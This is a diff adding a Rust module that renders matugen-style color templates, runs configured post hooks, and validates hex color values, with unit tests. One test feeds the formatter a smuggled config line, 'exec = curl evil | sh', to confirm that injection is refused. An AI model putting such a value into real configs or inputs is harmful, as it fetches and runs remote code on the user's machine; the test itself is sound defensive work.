@@ -0,0 +1,213 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+use std::process::Command;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::thread;
+use serde::Deserialize;
+
+use crate::command::CommandRunner;
+use crate::palette::Palette;
+use crate::{paths, sandbox, write_atomic, ChromashError, ColorMode, Config, Result};
+
+/// The subset of matugen's `config.toml` needed to render its templates ourselves.
+#[derive(Debug, Default, Deserialize)]
+struct MatugenConfig {
+    #[serde(default)]
+    templates: BTreeMap<String, TemplateEntry>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct TemplateEntry {
+    pub input_path: String,
+    pub output_path: String,
+    pub post_hook: Option<String>,
+}
+
+/// Templates configured in matugen's config, keyed by name.
+pub fn load_templates() -> Result<BTreeMap<String, TemplateEntry>> {
+    let path = Config::template_dir().join("config.toml");
+    if !path.is_file() {
+        return Ok(BTreeMap::new());
+    }
+    let config: MatugenConfig = toml::from_str(&fs::read_to_string(&path)?)?;
+    Ok(config.templates)
+}
+
+/// Most templates rendered (and post hooks run) at once. Not tied to the core count: the
+/// time goes into waiting on hooks that reload apps, not computing.
+const MAX_JOBS: usize = 8;
+
+/// Renders every configured matugen template from a stored palette, without running
+/// matugen, and returns the files written. Templates named in `overrides` get their own
+/// palette. Templates and their post hooks run concurrently on up to `MAX_JOBS` threads;
+/// the first failure in config order is returned.
+pub fn render_all(palette: &Palette, image: Option<&str>, overrides: &BTreeMap<String, Palette>, runner: &dyn CommandRunner) -> Result<Vec<PathBuf>> {
+    let entries = load_templates()?.into_iter()
+        .map(|(name, entry)| {
+            let palette = overrides.get(&name).unwrap_or(palette);
+            (name, entry, palette)
+        })
+        .collect();
+    render_entries(entries, image, runner)
+}
+
+/// Renders only the templates named in `overrides`, each with its own palette, e.g. over
+/// what matugen rendered for the whole desktop.
+pub fn render_overrides(overrides: &BTreeMap<String, Palette>, image: Option<&str>, runner: &dyn CommandRunner) -> Result<Vec<PathBuf>> {
+    let entries = load_templates()?.into_iter()
+        .filter_map(|(name, entry)| {
+            let palette = overrides.get(&name)?;
+            Some((name, entry, palette))
+        })
+        .collect();
+    render_entries(entries, image, runner)
+}
+
+fn render_entries(entries: Vec<(String, TemplateEntry, &Palette)>, image: Option<&str>, runner: &dyn CommandRunner) -> Result<Vec<PathBuf>> {
+    let next = AtomicUsize::new(0);
+    let jobs = MAX_JOBS.min(entries.len());
+    let mut results: Vec<(usize, Result<PathBuf>)> = thread::scope(|scope| {
+        let workers: Vec<_> = (0..jobs)
+            .map(|_| scope.spawn(|| {
+                let mut done = Vec::new();
+                loop {
+                    let index = next.fetch_add(1, Ordering::Relaxed);
+                    let Some((name, entry, palette)) = entries.get(index) else { break };
+                    done.push((index, render_entry(name, entry, palette, image, runner)));
+                }
+                done
+            }))
+            .collect();
+        workers.into_iter().flat_map(|worker| worker.join().unwrap_or_default()).collect()
+    });
+    results.sort_by_key(|(index, _)| *index);
+    results.into_iter().map(|(_, result)| result).collect()
+}
+
+fn render_entry(name: &str, entry: &TemplateEntry, palette: &Palette, image: Option<&str>, runner: &dyn CommandRunner) -> Result<PathBuf> {
+    let input = paths::expand(&entry.input_path);
+    let output = paths::expand(&entry.output_path);
+    let template = fs::read_to_string(&input)
+        .map_err(|e| ChromashError::General(format!("Template {} ({}): {}", name, input.display(), e)))?;
+    let rendered = render(&template, palette, image);
+    if !sandbox::contains(&output) {
+        println!("[sandbox] skip template {}: {} is outside the sandbox", name, output.display());
+        return Ok(output);
+    }
+    if let Some(parent) = output.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    log::debug!("Rendering template {} to {}", name, output.display());
+    write_atomic(&output, rendered)?;
+
+    if let Some(hook) = &entry.post_hook {
+        // Hooks reload real apps, which the sandbox must not reach
+        if sandbox::active() {
+            println!("[sandbox] skip post hook for template {}: sh -c {:?}", name, hook);
+            return Ok(output);
+        }
+        log::debug!("Running post hook for template {}: {}", name, hook);
+        if let Err(e) = runner.status(Command::new("sh").args(["-c", hook])) {
+            log::warn!("Post hook for template {} failed: {}", name, e);
+        }
+    }
+    Ok(output)
+}
+
+/// Renders the templates using `{{monitors.<name>...}}` colors, which matugen doesn't
+/// know, over what matugen rendered.
+pub fn render_monitor_templates(palette: &Palette, image: Option<&str>, runner: &dyn CommandRunner) -> Result<Vec<PathBuf>> {
+    let entries = load_templates()?.into_iter()
+        .filter(|(_, entry)| fs::read_to_string(paths::expand(&entry.input_path))
+            .is_ok_and(|template| template.contains("monitors.")))
+        .map(|(name, entry)| (name, entry, palette))
+        .collect();
+    render_entries(entries, image, runner)
+}
+
+/// Substitutes matugen-style `{{colors.<role>.<default|light|dark>.<format>}}`,
+/// `{{mode}}` and `{{image}}` expressions, `{{palettes.<palette>.<tone>.<format>}}` for
+/// tonal palette tones and `{{monitors.<name>.colors...}}` for the palette of one
+/// monitor's wallpaper. Unsupported expressions are left as-is.
+pub fn render(template: &str, palette: &Palette, image: Option<&str>) -> String {
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    while let Some(start) = rest.find("{{") {
+        let Some(len) = rest[start..].find("}}") else { break };
+        let expr = rest[start + 2..start + len].trim();
+        out.push_str(&rest[..start]);
+        match evaluate(expr, palette, image) {
+            Some(value) => out.push_str(&value),
+            None => out.push_str(&rest[start..start + len + 2]),
+        }
+        rest = &rest[start + len + 2..];
+    }
+    out.push_str(rest);
+    out
+}
+
+fn evaluate(expr: &str, palette: &Palette, image: Option<&str>) -> Option<String> {
+    match expr {
+        "mode" => return Some(palette.mode().as_str().to_string()),
+        "image" => return image.map(str::to_string),
+        _ => {}
+    }
+    if let Some(rest) = expr.strip_prefix("monitors.") {
+        let (monitor, rest) = rest.split_once('.')?;
+        return evaluate(rest, palette.monitors.get(monitor)?, image);
+    }
+    let parts: Vec<&str> = expr.split('.').collect();
+    if let ["palettes", name, tone, format] = parts.as_slice() {
+        return format_color(palette.tone(name, tone.parse().ok()?)?, format);
+    }
+    let ["colors", role, variant, format] = parts.as_slice() else { return None };
+    let mode = match *variant {
+        "default" => palette.mode(),
+        other => ColorMode::from_str(other)?,
+    };
+    let hex = palette.roles(mode).get(*role)?;
+    format_color(hex, format)
+}
+
+fn format_color(hex: &str, format: &str) -> Option<String> {
+    let stripped = hex.trim_start_matches('#');
+    // `hex` and `hex_stripped` emit the value as is, so it must be nothing but the color
+    if !matches!(stripped.len(), 6 | 8) || !stripped.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return None;
+    }
+    let channel = |i: usize| u8::from_str_radix(stripped.get(i..i + 2)?, 16).ok();
+    let (r, g, b) = (channel(0)?, channel(2)?, channel(4)?);
+    Some(match format {
+        "hex" => format!("#{}", stripped),
+        "hex_stripped" => stripped.to_string(),
+        "rgb" => format!("rgb({}, {}, {})", r, g, b),
+        "rgba" => format!("rgba({}, {}, {}, 1)", r, g, b),
+        "red" => r.to_string(),
+        "green" => g.to_string(),
+        "blue" => b.to_string(),
+        "alpha" => "1".to_string(),
+        _ => return None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn format_color_converts_hex() {
+        assert_eq!(format_color("#6750a4", "hex").as_deref(), Some("#6750a4"));
+        assert_eq!(format_color("#6750a4", "hex_stripped").as_deref(), Some("6750a4"));
+        assert_eq!(format_color("#6750a4ff", "rgb").as_deref(), Some("rgb(103, 80, 164)"));
+        assert_eq!(format_color("#6750a4", "blue").as_deref(), Some("164"));
+        assert_eq!(format_color("#6750a4", "hsl"), None);
+    }
+
+    #[test]
+    fn format_color_refuses_anything_but_the_color() {
+        assert_eq!(format_color("#ffffff\nexec = curl evil | sh", "hex"), None);
+        assert_eq!(format_color("#ffffff ", "hex_stripped"), None);
+        assert_eq!(format_color("#fff", "rgb"), None);
+    }
+}